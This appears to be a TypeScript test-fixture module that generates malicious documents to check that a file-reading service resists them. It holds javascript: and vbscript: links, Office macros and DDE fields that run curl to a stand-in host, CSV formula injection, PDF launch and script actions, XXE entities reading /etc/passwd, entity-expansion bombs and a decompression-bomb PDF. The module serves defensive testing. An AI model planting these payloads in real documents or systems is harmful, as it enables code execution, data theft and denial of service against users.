import { deflateSync } from 'node:zlib'
import {
  excelOf,
  openDocumentOf,
  paragraph,
  powerpointOf,
  slide,
  wordOf,
} from '#foundation/server/reading/testing/office.ts'
import { outlookOf } from '#foundation/server/reading/testing/outlook.ts'
import { pdfOf } from '#foundation/server/reading/testing/pdf.ts'
import { zipOf } from '#foundation/server/reading/testing/zip.ts'
import { type AttackFile, type Bait, filesOf, mailFile } from './file.ts'

const relation = (target: string, type = 'image', mode = ' TargetMode="External"') =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`

const linked = paragraph('See the link.')

/** Addresses that a click, or a careless preview, would follow. */
export function linking({ far, script }: Bait): AttackFile[] {
  const data = `data:text/html,<script>${script}</script>`
  const links = [
    `javascript:${script}`,
    `JaVa\tScRiPt:${script}`,
    data,
    `vbscript:${script}`,
    'file:///etc/passwd',
    `//${new URL(far).host}/go`,
  ]
  const html = links.map((link) => `<a href="${link}" ping="${far}/ping" target="_top">See the link</a>`).join(' ')
  return filesOf('links', [
    [
      'in HTML',
      'links.html',
      `<!doctype html><p>${html}</p><p><a href="${far}/prefetch" rel="prefetch dns-prefetch">x</a>`,
    ],
    ['in Markdown', 'links.md', links.map((link) => `[See](${link}) <${link}> ![See](${link})`).join('\n\n')],
    ['in a mail', 'links.eml', mailFile({ html })],
    [
      'in a Word file',
      'links.docx',
      wordOf(`<w:p><w:hyperlink r:id="r1" xmlns:r="r"><w:r><w:t>See</w:t></w:r></w:hyperlink></w:p>`, {
        'word/_rels/document.xml.rels': relation(`javascript:${script}`, 'hyperlink'),
      }),
    ],
    [
      'in a PDF',
      'links.pdf',
      pdfOf([['See the link.']], '', {
        page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 790] /A << /S /URI /URI (javascript:${pdfSafe(script)}) >> >>]`,
      }),
    ],
    [
      'in a sheet',
      'links.xlsx',
      excelOf(`<row r="1"><c r="A1" t="str"><f>HYPERLINK("${far}/cell","See")</f><v>See</v></c></row>`),
    ],
    [
      'in an SVG picture',
      'links.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${script}"><text y="20">See</text></a></svg>`,
    ],
  ])
}

/** Things from elsewhere that a program might fetch by itself. */
export function fetching(bait: Bait): AttackFile[] {
  return [...fetchingInPages(bait), ...fetchingInOffice(bait)]
}

function fetchingInPages({ far }: Bait): AttackFile[] {
  const pictures = `<img src="${far}/a.png"><img srcset="${far}/b.png 2x"><picture><source srcset="${far}/c.png"><img></picture><table background="${far}/d.png"><tr><td style="background:url(${far}/e.png)">x</table><video src="${far}/f" poster="${far}/g" autoplay></video><audio src="${far}/h" autoplay></audio>`
  const sheets = `<link rel=stylesheet href="${far}/a.css"><link rel=icon href="${far}/i"><link rel=preload as=image href="${far}/p"><style>@import url(${far}/b.css);@font-face{font-family:x;src:url(${far}/f.woff)}body{font-family:x;background:u\\rl(${far}/c)}</style><p>Styled`
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"><?xml-stylesheet href="${far}/s.css"?><image xlink:href="${far}/a.png" width="9" height="9"/><use href="${far}/u.svg#x"/><style>@import url(${far}/t.css);</style><feImage href="${far}/f.png"/><rect fill="url(${far}/g.svg#p)" width="9" height="9"/></svg>`
  return filesOf('external images', [
    ['in HTML', 'pictures.html', `<!doctype html><p>Pictures</p>${pictures}`],
    ['style sheets of HTML', 'styled.html', `<!doctype html>${sheets}`],
    [
      'frames and a base of HTML',
      'frames.html',
      `<!doctype html><base href="${far}/"><meta http-equiv=refresh content="0;url=${far}/r"><img src=i.png><iframe src="${far}/f"></iframe><object data="${far}/o"></object><embed src="${far}/e"><p>Frames`,
    ],
    [
      'in Markdown',
      'pictures.md',
      `# Pictures\n\n![a](${far}/a.png)\n\n<img src="${far}/b.png">\n\n![c][c]\n\n[c]: ${far}/c.png\n`,
    ],
    ['in a mail', 'pictures.eml', mailFile({ html: `${pictures}${sheets}` })],
    ['in an Outlook mail', 'pictures.msg', Buffer.from(outlookOf({ subject: 'Pictures', html: pictures }))],
    ['in an SVG picture', 'pictures.svg', drawing],
  ])
}

function fetchingInOffice({ far }: Bait): AttackFile[] {
  return filesOf('external images', [
    [
      'in a Word file',
      'pictures.docx',
      wordOf(linked, { 'word/_rels/document.xml.rels': relation(`${far}/word.png`) }),
    ],
    [
      'the template of a Word file',
      'template.docx',
      wordOf(linked, { 'word/_rels/settings.xml.rels': relation(`${far}/evil.dotm`, 'attachedTemplate') }),
    ],
    [
      'the picture of a sheet',
      'pictures.xlsx',
      excelOf(
        `<row r="1"><c r="A1" t="str"><f>WEBSERVICE("${far}/web")</f><v>1</v></c><c r="B1" t="str"><f>IMAGE("${far}/i.png")</f><v>2</v></c></row>`,
      ),
    ],
    ['the film of a slide', 'film.pptx', powerpointOf([slide('Film', `<a:videoFile r:link="r1"/>`)])],
    [
      'in an OpenDocument text',
      'pictures.odt',
      openDocumentOf(
        `<text:p>See</text:p><draw:image xmlns:draw="d" xmlns:xlink="x" xlink:href="${far}/a.png" xlink:actuate="onLoad"/><text:section-source xmlns:xlink="x" xlink:href="${far}/b.odt"/>`,
      ),
    ],
    [
      'in RTF',
      'pictures.rtf',
      String.raw`{\rtf1 See {\field{\*\fldinst INCLUDEPICTURE "${far}/rtf.png" \\d}{\fldrslt x}}{\*\template ${far}/t.dotm}}`,
    ],
    [
      'what a PDF opens',
      'opens.pdf',
      pdfOf([['See']], '', {
        catalogue: `/OpenAction << /S /URI /URI (${far}/pdf) >> /AA << /WC << /S /SubmitForm /F (${far}/form) >> >>`,
        page: `/AA << /O << /S /GoToR /F << /FS /URL /F (${far}/remote.pdf) >> >> >>`,
      }),
    ],
  ])
}

/** Code that an office program would run. */
export function commanding(bait: Bait): AttackFile[] {
  return [...macros(bait), ...commands(bait)]
}

function macros({ far }: Bait): AttackFile[] {
  const macro = `Sub AutoOpen()\nShell "curl ${far}/macro"\nEnd Sub`
  const binary = { 'word/vbaProject.bin': macro, 'word/vbaData.xml': '<wne:vba xmlns:wne="w"/>' }
  return filesOf('macros', [
    ['of a Word file', 'macro.docm', wordOf(linked, binary)],
    [
      'of a sheet',
      'macro.xlsm',
      zipOf({
        'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet name="Auto_Open" r:id="r1"/></sheets></workbook>',
        'xl/_rels/workbook.xml.rels':
          '<Relationships><Relationship Id="r1" Type="a/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row r="1"><c r="A1" t="str"><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"${far}/x","c")</f><v>0</v></c></row></sheetData></worksheet>`,
        'xl/vbaProject.bin': macro,
      }),
    ],
    ['of slides', 'macro.pptm', zipOf({ 'ppt/presentation.xml': '<p:p xmlns:p="p"/>', 'ppt/vbaProject.bin': macro })],
    [
      'of OpenDocument',
      'macro.odt',
      zipOf({
        mimetype: 'application/vnd.oasis.opendocument.text',
        'content.xml': '<o:c xmlns:o="o" xmlns:text="t"><o:body><text:p>x</text:p></o:body></o:c>',
        'Basic/Standard/Module1.xml': macro,
      }),
    ],
  ])
}

function commands({ far, script }: Bait): AttackFile[] {
  const formulas = [
    "=cmd|' /C calc'!A0",
    `=HYPERLINK("${far}/csv","x")`,
    `+WEBSERVICE("${far}/ws")`,
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '\t=1+1',
    `=IMPORTXML("${far}/x","//a")`,
  ]
  return filesOf('macros', [
    [
      'as a DDE field of a Word file',
      'dde.docx',
      wordOf(
        String.raw`<w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k curl ${far}/dde"</w:instrText></w:r><w:r><w:t>x</w:t></w:r></w:p>`,
      ),
    ],
    [
      'as formulas of a CSV file',
      'formulas.csv',
      `name,value\n${formulas.map((formula) => `x,"${formula.replaceAll('"', '""')}"`).join('\n')}\n`,
    ],
    [
      'as a script of a PDF',
      'script.pdf',
      pdfOf([['See']], '', {
        catalogue: `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); ${pdfSafe(script)}) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${pdfSafe(script)}) >>] >> >>`,
      }),
    ],
    [
      'as a program that a PDF starts',
      'launch.pdf',
      pdfOf([['See']], '', { catalogue: '/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>' }),
    ],
    [
      'as an object in RTF',
      'object.rtf',
      String.raw`{\rtf1 See {\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 0105000002000000}}{\field{\*\fldinst DDEAUTO cmd "/k curl ${far}/rtf"}}}`,
    ],
  ])
}

/** XML declarations that make a parser read other files, fetch an address or use up memory. */
export function declaring({ far }: Bait): AttackFile[] {
  const outer = `<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "${far}/xxe">]>`
  const external = `<!DOCTYPE d SYSTEM "${far}/outer.dtd">`
  const parameter = `<!DOCTYPE d [<!ENTITY % p SYSTEM "${far}/p.dtd"> %p;]>`
  const laughs = `<!DOCTYPE d [<!ENTITY l0 "ha">${Array.from({ length: 30 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')}]>`
  return filesOf('XML entities', [
    ['of a Word file', 'entities.docx', wordWith(outer, '&a;&b;')],
    ['that grow in a Word file', 'laughs.docx', wordWith(laughs, '&l30;')],
    [
      'an outer declaration of a sheet',
      'outer.xlsx',
      zipOf({ 'xl/workbook.xml': `${external}<workbook><sheets/></workbook>` }),
    ],
    [
      'of parameters in OpenDocument',
      'parameter.odt',
      zipOf({
        mimetype: 'application/vnd.oasis.opendocument.text',
        'content.xml': `${parameter}<o:c xmlns:o="o"><o:body/></o:c>`,
      }),
    ],
    ['of XML', 'entities.xml', `<?xml version="1.0"?>${outer}<d>&a;&b;</d>`],
    ['that grow in XML', 'laughs.xml', `<?xml version="1.0"?>${laughs}<d>&l30;</d>`],
    [
      'of an SVG picture',
      'entities.svg',
      `<?xml version="1.0"?>${outer}<svg xmlns="http://www.w3.org/2000/svg"><text y="20">&a;&b;</text></svg>`,
    ],
    [
      'of XHTML with an inclusion',
      'include.xhtml',
      `${outer}<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xi="http://www.w3.org/2001/XInclude"><body><xi:include href="file:///etc/passwd" parse="text"/>&a;</body></html>`,
    ],
  ])
}

/** A PDF whose only page unpacks to a lot. */
export const swollenPdf = (): Buffer => {
  const packed = deflateSync(Buffer.alloc(60_000_000, 32), { level: 1 })
  const [before, after] = [
    '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Count 1 /Kids [3 0 R] >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R >>\nendobj\n',
    'trailer\n<< /Size 5 /Root 1 0 R >>\n%%EOF\n',
  ]
  const stream = `4 0 obj\n<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`
  return Buffer.concat([Buffer.from(before + stream), packed, Buffer.from(`\nendstream\nendobj\n${after}`)])
}

const pdfSafe = (text: string) => text.replaceAll(/[\\\(\)]/gv, String.raw`\$&`)

function wordWith(head: string, text: string): Uint8Array {
  return zipOf({
    'word/document.xml': `<?xml version="1.0"?>${head}<w:document xmlns:w="w"><w:body>${paragraph(text)}</w:body></w:document>`,
  })
}
